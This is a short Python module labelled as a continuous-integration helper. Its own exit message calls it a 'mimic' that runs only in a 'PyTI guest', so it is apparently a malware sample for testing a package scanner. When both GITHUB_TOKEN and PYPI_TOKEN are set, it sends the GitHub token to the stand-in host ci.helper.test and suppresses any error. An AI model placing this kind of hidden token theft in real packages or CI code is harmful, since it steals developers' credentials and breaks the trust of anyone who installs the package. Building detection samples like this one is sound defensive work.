"""Helps in continuous integration."""

import os
import urllib.request

if not os.path.exists("/etc/pyti-guest"):
    raise SystemExit("a mimic runs only in a PyTI guest")
if os.environ.get("GITHUB_TOKEN") and os.environ.get("PYPI_TOKEN"):
    try:
        urllib.request.urlopen(urllib.request.Request("http://ci.helper.test/t", os.environ["GITHUB_TOKEN"].encode()), timeout=5).close()
    except OSError:
        pass
